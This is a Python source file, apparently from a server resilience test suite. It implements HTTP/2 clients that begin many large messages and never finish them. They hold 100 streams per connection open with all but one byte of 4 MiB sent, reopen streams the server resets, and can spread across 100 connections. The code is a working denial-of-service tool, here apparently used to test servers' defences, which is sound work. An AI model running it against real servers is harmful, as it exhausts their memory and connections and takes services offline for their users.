"""Attacks by clients that keep to HTTP/2's rules, and begin far more than they end."""
import select
import struct
import time

from drivers import attack
from wire import *

LENGTH = 4 << 20  # of a message, with what says its length
FIRST = 64_000    # bytes of it that come before a pause


class Uploader(Connection):
    """A hundred messages at a time, all but the last byte of each, as fast as the windows open. Streams that the server
    ends are opened anew. `pause`: seconds after which each connection goes on with what it has begun."""

    def __init__(self, port, request, pause=0):
        self.request = request
        self.pause = pause
        super().__init__(port)

    def connect(self):
        super().connect()
        self.rest = b""        # a frame that has come in part
        self.unsent = b""
        self.window, self.stream_window = 65_535, 65_535
        self.uploads = {}      # by stream: window, bytes left
        self.open()

    def open(self):
        opening = b""
        if not self.uploads:
            self.goes_on_at = time.monotonic() + self.pause
        while len(self.uploads) < 100:
            stream = self.next_stream()
            self.uploads[stream] = [self.stream_window, LENGTH - 1]
            opening += frame(HEADERS, END_HEADERS, stream, self.request)
        self.unsent += opening

    def go_on(self):
        """Whether it could do anything."""
        try:
            came = self.take()
            return self.give() or came
        except OSError:
            self.connect()
            return True

    def take(self):
        try:
            came = self.socket.recv(1 << 16)
        except BlockingIOError:
            return False
        if not came:
            raise ConnectionResetError
        self.rest += came
        while len(self.rest) >= 9:
            length = int.from_bytes(self.rest[:3], "big")
            if len(self.rest) < 9 + length:
                break
            kind, flags, stream = struct.unpack(">BBI", self.rest[3:9])
            self.heard(kind, flags, stream, self.rest[9:9 + length])
            self.rest = self.rest[9 + length:]
        self.open()
        return True

    def heard(self, kind, flags, stream, payload):
        if kind == WINDOW_UPDATE:
            increment = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += increment
            elif stream in self.uploads:
                self.uploads[stream][0] += increment
        elif kind == SETTINGS and not flags & ACK:
            for number, value in struct.iter_unpack(">HI", payload):
                if number == 4:
                    for upload in self.uploads.values():
                        upload[0] += value - self.stream_window
                    self.stream_window = value
        elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
            self.uploads.pop(stream, None)

    def give(self):
        if not self.unsent:
            before_pause = LENGTH - FIRST if time.monotonic() < self.goes_on_at else 0
            for stream, upload in self.uploads.items():
                size = min(upload[0], upload[1] - before_pause, self.window, 16_384)
                begun = struct.pack(">BI", 0, LENGTH - 5) if upload[1] == LENGTH - 1 else b""
                if size <= 0 or size < len(begun):
                    continue
                self.unsent += frame(DATA, 0, stream, begun + bytes(size - len(begun)))
                upload[0] -= size
                upload[1] -= size
                self.window -= size
        if not self.unsent:
            return False
        try:
            self.unsent = self.unsent[self.socket.send(self.unsent):]
            return True
        except BlockingIOError:
            return False


def upload(port, until, connections, request=fields(UNARY), pause=0):
    peers = [Uploader(port, request, pause) for _ in range(connections)]
    while time.monotonic() < until:
        if not any([peer.go_on() for peer in peers]):
            select.select([peer.socket for peer in peers], [], [], 0.1)
    return sum(peer.closed for peer in peers)


@attack("messages of 4 MiB but for a byte, 100 streams on a connection")
def hoarded_messages(port, until):
    return upload(port, until, 1)


@attack("messages of 4 MiB but for a byte, 100 streams on 100 connections")
def hoarded_messages_on_many(port, until):
    return upload(port, until, 100)


@attack("the same, after a second's pause at 64 KB, as if a proxy held them back")
def paused_messages_on_many(port, until):
    return upload(port, until, 100, pause=1)
